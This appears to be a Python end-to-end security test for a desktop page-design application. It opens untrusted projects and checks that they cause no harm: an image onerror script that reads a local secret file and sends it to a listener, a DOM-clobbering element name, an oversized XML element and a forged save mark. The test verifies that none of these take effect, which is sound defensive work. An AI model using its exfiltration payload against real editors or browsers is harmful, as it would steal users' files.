#!/usr/bin/env python3
"""A project someone else made, opened from the command line: its page content is drawn on the
design surface as written, but none of its scripts runs there. A box whose picture fails to
load would rewrite its own text and call a server on this machine; the box keeps its words and
the server hears nothing, and the user's file beside the project is not read. A second box holds a
picture named as one of the document's own functions: the page is still drawn and changed
through the inspector as any other, and the built page keeps the name, which is the user's, as
data beside a name that takes nothing from the document (where it would blank the page). The
page's own field named "name" and the user's own labelled field "title" keep their names and ids
in the built page, where the user's style rules for #title and [name="title"] reach the field.
A second project, of one label carrying 100,000 attributes, handed to the running program, is
refused within a person's patience with a message naming the line and the element, and the open
window answers all the while.
A third, sent in a shared folder, whose package carries a save mark naming "." (the folder
holding it, with that folder's device and inode), is handed to the running application: it opens
as any other, and the user's files beside it stay. Its page holds a control of a plug-in the user
has, and its web folder a script of its own named as the plug-in's: the build keeps the project's
script and says so. It holds a control of another plug-in class too, which the application
refused as it loaded: the object palette names that class and why from the start, and the
opening of the project says why its class is not known."""

import http.server
import os
import re
import shutil
import sys
import threading
import time

import krdesktop as kd

CONTENT = ('Written by a stranger'
           '<img src="nowhere.png" onerror="this.parentNode.firstChild.data = \'Script ran\';'
           ' var x = new XMLHttpRequest(); try {{ x.open(\'GET\', \'file://{secret}\', false); x.send(); }} catch (e) {{}}'
           ' new Image().src = \'http://127.0.0.1:{port}/ran?\' + encodeURIComponent(x.responseText || \'\');">'
           '<img src="http://127.0.0.1:{port}/picture.png">')

NAMED = 'Hello <img name="createElement">'

# The user's own field, its label and style rules that find it by its id and by its name; each
# rule hides a line that says it missed.
OWN = ('<style>#title + .miss, [name="title"] ~ .miss2 { display: none; }</style>'
       '<label for="title">Title</label><input id="title" name="title" data-role="none">'
       '<span class="miss">No style reaches #title.</span><span class="miss2">No style reaches [name=title].</span>')

SHARED = """<?xml version="1.0" encoding="UTF-8"?>
<KRProjectDocument>
  <KRProject JQMVersion="1.4" designTarget="iPhone" startPage="home"/>
  <KRPages>
    <KRPage id="home" title="Shared">
      <KRContents>
        <KRDiv id="box" top="80" left="10" width="300" height="40">Sent in a shared folder</KRDiv>
        <KRSampleGauge id="gauge1" top="200" left="10" width="100" height="50" caption="Fuel" value="40"/>
        <KRSampleDial id="dial1" top="260" left="10" width="100" height="50"/>
      </KRContents>
    </KRPage>
  </KRPages>
</KRProjectDocument>
"""

PROJECT = """<?xml version="1.0" encoding="UTF-8"?>
<KRProjectDocument>
  <KRProject JQMVersion="1.4" designTarget="iPhone" startPage="home"/>
  <KRPages>
    <KRPage id="home" title="Downloaded">
      <KRContents>
        <KRDiv id="box" top="80" left="10" width="300" height="120">{content}</KRDiv>
        <KRDiv id="named" top="220" left="10" width="300" height="40">{named}</KRDiv>
        <KRDiv id="own" top="270" left="10" width="300" height="60">{own}</KRDiv>
        <JQMTextbox id="name" top="340" left="10" width="300" label="Name"/>
      </KRContents>
    </KRPage>
  </KRPages>
</KRProjectDocument>
"""


class Listener(http.server.ThreadingHTTPServer):
    """A server on 127.0.0.1 that counts what it is asked for."""

    def __init__(self):
        super().__init__(("127.0.0.1", 0), ListenerHandler)
        self.heard = []


class ListenerHandler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.heard.append(self.path)
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args):
        pass


# A plug-in whose one class extends a class of the application that is no plug-in class: the
# class is refused as the plug-in loads.
REFUSED_PLUGIN = """{"classes": [{"className": "KRSampleDial", "superClass": "KRLabel", "classDescription": "A dial.",
  "properties": [{"propertyName": "turns", "propertyType": "number", "defaultValue": 1}]}]}"""
REFUSED_WHY = "Dial.krplugin: the superclass 'KRLabel' is not a plug-in class"


def downloaded_project(desktop):
    # Plug-ins the user installed, loaded when the application starts.
    plugins = os.path.join(desktop.home, ".local", "share", "Korvane", "Plug-ins")
    shutil.copytree(os.path.join(desktop.options.source, "tests", "data", "plugins", "Gauge.krplugin"),
                    os.path.join(plugins, "Gauge.krplugin"))
    os.makedirs(os.path.join(plugins, "Dial.krplugin"))
    with open(os.path.join(plugins, "Dial.krplugin", "krplugin.json"), "w", encoding="utf-8") as out:
        out.write(REFUSED_PLUGIN)
    listener = Listener()
    threading.Thread(target=listener.serve_forever, daemon=True).start()
    try:
        secret = os.path.join(desktop.home, "Documents", "secret.txt")
        folder = os.path.join(desktop.home, "Documents", "Downloaded.krproj")
        os.makedirs(os.path.join(folder, "kr-web"))
        with open(secret, "w", encoding="utf-8") as out:
            out.write("my secret words")
        content = CONTENT.format(secret=secret, port=listener.server_address[1])
        escaped = content.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        with open(os.path.join(folder, "project.xml"), "w", encoding="utf-8") as out:
            out.write(PROJECT.format(content=escaped, named=NAMED.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"),
                                     own=OWN.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")))

        desktop.launch(folder)
        window = kd.project_window(desktop, "Downloaded")
        desktop.activate_if_needed(window)
        # The plug-in class refused as it loaded is named under the object palette, with why.
        desktop.wait_for(window, "list", "Object Palette", "the object palette")
        note = desktop.wait_for(window, "label", what="the line under the palette naming the plug-in class not loaded",
                                predicate=lambda n: "Dial.krplugin (KRSampleDial)" in n.name)
        desktop.screenshot("plug-in-class-not-loaded")
        kd.check("the superclass 'KRLabel' is not a plug-in class" in note.name,
                 f"the palette does not say why the plug-in class was not loaded: {note.name!r}")
        surface = kd.design_surface(desktop, window)
        kd.check_page_drawn(desktop, surface)
        kd.wait_until(lambda: kd.element_with_text(surface, "Written by a stranger") or kd.element_with_text(surface, "Script ran"),
                      "the box's words drawn on the design surface")
        # A failed picture reports at once; the page has a moment more to do anything else.
        time.sleep(2)
        desktop.screenshot("drawn")
        kd.check(not kd.element_with_text(surface, "Script ran"), "a script of the project ran on the design surface")
        kd.check(kd.element_with_text(surface, "Written by a stranger"), "the box's words are gone")
        kd.check(not listener.heard, "the design surface sent requests to a server: " + ", ".join(listener.heard))

        # The named picture changes nothing: the box is drawn with its words and follows a
        # change made in the inspector.
        def words():
            return surface.find(predicate=lambda n: n.role == "label" and n.name.strip() == "Hello")
        hello = kd.wait_until(words, "the named box's words on the design surface")
        x_before = hello.rect[0]
        kd.click_page(desktop, surface, 40, 240)
        kd.wait_inspected(desktop, window, "named")
        kd.set_inspector_text(desktop, window, "left", "70")
        kd.wait_until(lambda: (words() or hello).rect[0] >= x_before + 55,
                      "the named box moved 60 pixels right on the design surface")
        desktop.screenshot("named-box-moved")

        status = kd.build(desktop, window)
        with open(os.path.join(folder, "kr-web", "home.html"), encoding="utf-8") as built:
            page = built.read()
        # The names the user gave stand as written: the built page, shown by jQuery Mobile, applies
        # the user's style rules to the field they name, and the build changes no other name.
        site = os.path.join(desktop.home, "Documents", "BuiltSite")
        shutil.copytree(os.path.join(folder, "kr-web"), site)
        os.symlink(os.path.join(desktop.options.source, "resources", "local-server"), os.path.join(site, "__kr_bundle"))
        report = kd.check_in_browser(desktop, site, "home.html")
        desktop.log(f"built page: loaded={report['loaded']} ready={report['ready']} text={report['text']!r}")
        kd.check(report["loaded"] and report["ready"], "jQuery Mobile did not show the built page")
        kd.check("Title" in report["text"] and "No style reaches" not in report["text"],
                 f"the user's style rules do not reach the field they name in the built page: {report['text']!r}")
        kd.check('name="name"' in page and re.search(r'<input id="title" name="title"', page),
                 "the built page renamed the user's own fields")
        kd.check("title" not in status and "\u201Cname\u201D" not in status, f"the build speaks of names it kept: {status!r}")
        # The picture named as the document's method keeps its name as data, and the build says so.
        kd.check(re.search(r'<img name="kr-name-createElement" data-kr-name="createElement"\s*/?>', page),
                 "the built page lost the picture's name, or keeps it where it takes the document's createElement")
        kd.check("\u201Cnamed\u201D on the page \u201Chome\u201D" in status, f"the build does not name the box and its page: {status!r}")

        crowded_project_refused_promptly(desktop, window)
        forged_save_mark(desktop)
    finally:
        listener.shutdown()


CROWDED = """<?xml version="1.0" encoding="UTF-8"?>
<KRProjectDocument>
  <KRProject JQMVersion="1.4" designTarget="iPhone" startPage="home"/>
  <KRPages>
    <KRPage id="home" title="Crowded">
      <KRContents><KRLabel id="crowded" {attributes}/></KRContents>
    </KRPage>
  </KRPages>
</KRProjectDocument>
"""


def crowded_project_refused_promptly(desktop, window):
    folder = os.path.join(desktop.home, "Documents", "Crowded.krproj")
    os.makedirs(os.path.join(folder, "kr-web"))
    with open(os.path.join(folder, "project.xml"), "w", encoding="utf-8") as out:
        out.write(CROWDED.format(attributes=" ".join(f'a{n}="1"' for n in range(1, 100001))))
    words = "carries 100001 attributes"

    def message():
        return next((w for w in desktop.windows() if w.find("label", predicate=lambda n: words in n.name)), None)

    started = time.monotonic()
    status = desktop.start_again(folder)
    kd.check(status == 0, f"the second start did not hand over and end (status {status})")
    seconds = kd.wait_within_patience(message, "the message that the crowded project is refused", 10, started)
    desktop.log(f"the crowded project was refused {seconds:.1f} s after the second start")
    alert = message()
    text = " ".join(n.name for n in alert.find_all("label"))
    desktop.screenshot("crowded-project-refused")
    for expected in ("The project \u201cCrowded.krproj\u201d could not be opened.", "line 6",
                     "\u201cKRLabel\u201d with the id \u201ccrowded\u201d carries 100001 attributes", "at most 1024"):
        kd.check(expected in text, f"the message does not say {expected!r}: {text!r}")
    desktop.activate_if_needed(alert)
    desktop.click(desktop.wait_for(alert, "push button", "OK", "the message's OK button"))
    kd.wait_until(lambda: message() is None, "the message to close")
    kd.check(not any(title == "Crowded" for _, title in desktop.managed_windows()), "a window opened for the crowded project")
    # The open window answers: a press on the first box inspects it.
    window = kd.project_window(desktop, "Downloaded")
    desktop.bring_to_front(window)
    surface = kd.design_surface(desktop, window)
    kd.click_page(desktop, surface, 40, 100)
    kd.wait_inspected(desktop, window, "box")
    desktop.screenshot("open-window-answers")


def forged_save_mark(desktop):
    shared = os.path.join(desktop.home, "Documents", "Shared")
    package = os.path.join(shared, "Tips.krproj")
    os.makedirs(os.path.join(package, "kr-web"))
    os.makedirs(os.path.join(shared, "Letters"))
    mine = {os.path.join(shared, "budget.ods"): "sums", os.path.join(shared, "Letters", "letter.txt"): "dear"}
    for path, text in mine.items():
        with open(path, "w", encoding="utf-8") as out:
            out.write(text)
    with open(os.path.join(package, "project.xml"), "w", encoding="utf-8") as out:
        out.write(SHARED)
    own_script = os.path.join(package, "kr-web", "gauge-runtime.js")
    with open(own_script, "w", encoding="utf-8") as out:
        out.write("// the sender's own script\n")
    folder = os.lstat(shared)
    with open(os.path.join(package, ".kr-save-mark"), "w", encoding="ascii") as out:
        out.write(f"Korvane Save As\nid 00000000-0000-4000-8000-00000000f00d\nplace {b'Tips.krproj'.hex()}\n"
                  f"replaced {b'.'.hex()} {folder.st_dev} {folder.st_ino}\n")

    kd.check(desktop.start_again(package) == 0, "the second start did not hand Tips over and end")
    kd.wait_until(lambda: not all(os.path.exists(path) for path in mine) or any(w.name == "Tips" for w in desktop.windows()),
                  "the shared project's window", kd.LAUNCH_TIMEOUT)
    # Its page holds an object of the plug-in class refused as it loaded: the opening says why
    # that class is not known.
    alert = kd.wait_until(lambda: kd.alert_saying(desktop, "not known"), "the alert about the class not known")
    said = " ".join(n.name for n in alert.find_all("label"))
    desktop.screenshot("refused-plug-in-class-not-known")
    kd.check("KRSampleDial" in said and REFUSED_WHY in said,
             f"the alert does not say why the class KRSampleDial is not known: {said!r}")
    desktop.activate_if_needed(alert)
    desktop.click(desktop.wait_for(alert, "push button", "OK", "the alert's OK button"))
    kd.wait_until(lambda: kd.alert_saying(desktop, "not known") is None, "the alert to close")
    desktop.screenshot("shared-project-with-a-mark")
    gone = [os.path.relpath(path, shared) for path in mine if not os.path.exists(path)]
    kd.check(not gone, "opening the shared project removed the user's files beside it: " + ", ".join(gone))
    for path, text in mine.items():
        with open(path, encoding="utf-8") as kept:
            kd.check(kept.read() == text, f"{os.path.relpath(path, shared)} changed")
    window = kd.project_window(desktop, "Tips")
    desktop.activate_if_needed(window)
    surface = kd.design_surface(desktop, window)
    kd.wait_until(lambda: kd.element_with_text(surface, "Sent in a shared folder"), "the shared project's page drawn")

    # The plug-in's script of the same name takes nothing of the project's.
    status = kd.build(desktop, window)
    desktop.screenshot("shared-project-built")
    with open(own_script, encoding="utf-8") as kept:
        kd.check(kept.read() == "// the sender's own script\n", "the build replaced the project's gauge-runtime.js")
    kd.check("gauge-runtime.js" in status and "not copied" in status,
             f"the build does not say why the plug-in's script was not copied: {status!r}")


if __name__ == "__main__":
    sys.exit(kd.run([downloaded_project]))
